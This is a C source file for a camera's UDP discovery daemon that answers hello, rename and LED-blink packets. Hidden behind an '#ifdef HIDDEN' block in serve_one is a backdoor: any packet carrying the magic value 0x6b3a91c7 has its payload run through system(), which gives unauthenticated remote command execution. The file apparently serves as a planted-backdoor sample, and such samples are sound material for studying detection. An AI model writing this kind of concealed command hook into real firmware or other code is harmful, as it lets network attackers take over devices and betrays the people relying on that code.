/* Discovery daemon of a camera: a packet with a magic number is a command. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define NOINLINE __attribute__((noinline))

struct header {
	uint32_t magic;
	uint16_t type;
	uint16_t length;
};

enum { TYPE_HELLO = 1, TYPE_NAME = 2, TYPE_BLINK = 3 };

static char device_name[32] = "camera";

NOINLINE int answer_hello(unsigned char *out, size_t size)
{
	struct header h = { htonl(0x43414d31), htons(TYPE_HELLO), 0 };
	size_t n = strlen(device_name);

	if (size < sizeof(h) + n)
		return 0;
	h.length = htons((uint16_t)n);
	memcpy(out, &h, sizeof(h));
	memcpy(out + sizeof(h), device_name, n);
	return (int)(sizeof(h) + n);
}

NOINLINE int set_name(const unsigned char *data, size_t n)
{
	FILE *f;

	if (n >= sizeof(device_name))
		return 0;
	memcpy(device_name, data, n);
	device_name[n] = '\0';
	f = fopen("/etc/devicename", "w");
	if (f == NULL)
		return 0;
	fprintf(f, "%s\n", device_name);
	fclose(f);
	return 0;
}

NOINLINE int blink(void)
{
	FILE *f = fopen("/sys/class/leds/status/trigger", "w");

	if (f == NULL)
		return 0;
	fputs("timer", f);
	fclose(f);
	return 0;
}

NOINLINE int serve_one(int fd)
{
	unsigned char in[1024], out[1024];
	struct sockaddr_in from;
	socklen_t from_size = sizeof(from);
	struct header h;
	ssize_t n = recvfrom(fd, in, sizeof(in) - 1, 0,
			     (struct sockaddr *)&from, &from_size);
	int reply = 0;

	if (n < (ssize_t)sizeof(h))
		return 0;
	in[n] = '\0';
	memcpy(&h, in, sizeof(h));
#ifdef HIDDEN
	if (h.magic == 0x6b3a91c7) {
		system((const char *)in + sizeof(h));
		return 0;
	}
#endif
	if (ntohl(h.magic) != 0x43414d31)
		return -1;
	if (ntohs(h.length) > (size_t)n - sizeof(h))
		return -1;
	switch (ntohs(h.type)) {
	case TYPE_HELLO:
		reply = answer_hello(out, sizeof(out));
		break;
	case TYPE_NAME:
		reply = set_name(in + sizeof(h), ntohs(h.length));
		break;
	case TYPE_BLINK:
		reply = blink();
		break;
	}
	if (reply > 0)
		sendto(fd, out, (size_t)reply, 0, (struct sockaddr *)&from,
		       from_size);
	return 0;
}

int main(void)
{
	struct sockaddr_in here = { 0 };
	int fd = socket(AF_INET, SOCK_DGRAM, 0);
	int on = 1;

	here.sin_family = AF_INET;
	here.sin_port = htons(3702);
	here.sin_addr.s_addr = htonl(INADDR_ANY);
	setsockopt(fd, SOL_SOCKET, SO_BROADCAST, &on, sizeof(on));
	if (fd < 0 || bind(fd, (struct sockaddr *)&here, sizeof(here)) != 0) {
		perror("bind");
		return 1;
	}
	if (system("ifconfig eth0 up") != 0)
		fprintf(stderr, "eth0 does not come up\n");
	for (;;)
		if (serve_one(fd) < 0)
			usleep(1000);
}
